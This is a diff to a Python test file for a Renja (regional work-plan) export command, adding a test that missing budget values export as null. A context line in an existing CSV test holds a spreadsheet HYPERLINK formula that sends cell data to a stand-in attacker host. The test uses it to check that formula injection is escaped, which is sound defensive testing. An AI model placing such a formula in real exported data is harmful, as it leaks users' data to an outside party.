@@ -120,3 +120,14 @@ def test_csv_escapes_formula_in_names(users, tahap_final):
     assert line["nama"] == '\'=HYPERLINK("http://penyerang.example/?d="&A1,"Klik")'
     assert line["indikator"] == "'@SUM(1+1)" and line["satuan"] == "'-Orang"
     assert line["pagu"] == "1000000000" and line["target"] == "500"  # numbers stay numbers
+
+
+def test_json_keeps_a_missing_pagu_null(db):
+    """The 2024 Renja's sub kegiatan without pagu export pagu null (blank), not 0 (issue 11)."""
+    out = io.StringIO()
+    call_command("renja_export", "renja", "--tahun", "2024", "--opd", OPD, "--format", "json", stdout=out)
+    rows = json.loads(out.getvalue())["rows"]
+    subs = [r for r in rows if r["level"] == "sub_kegiatan"]
+    assert sum(1 for r in subs if r["pagu"] is None) == 48
+    assert all(r["pagu"] is None for r in subs if not r["pagu_per_sumber_dana"])
+    assert 0 not in [r["pagu"] for r in subs]
